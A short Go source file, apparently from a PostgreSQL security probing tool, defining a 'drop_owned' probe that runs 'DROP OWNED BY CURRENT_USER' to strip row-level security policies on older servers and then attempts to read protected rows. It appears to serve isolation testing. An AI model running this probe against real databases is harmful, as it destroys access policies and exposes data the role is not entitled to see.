package attack

import (
	"context"

	"github.com/jackc/pgx/v5"
)

var dropOwned = Probe{
	Name: "drop_owned",
	Doc: `drop the policies that bind the role with DROP OWNED

Servers older than their last security release let a role drop, without any right to the table, the policies that name it: a
restrictive one that held everything goes.`,
	Command: "SELECT", Kind: "isolation", Writes: true, DDL: true, Clone: true,
	Ways: func(t *Target) []*Target {
		if !t.Table.Relation.RowSecurity {
			return nil
		}
		u := *t
		u.Path = Path{{"owner", "DROP OWNED BY " + t.Role}}
		return []*Target{&u}
	},
	Try: func(ctx context.Context, tx pgx.Tx, t *Target) (bool, error) {
		if t.control() {
			return tryRead(ctx, tx, t)
		}
		if _, err := t.exec(ctx, tx, "DROP OWNED BY CURRENT_USER"); err != nil {
			return false, err
		}
		return tryRead(ctx, tx, t)
	},
}
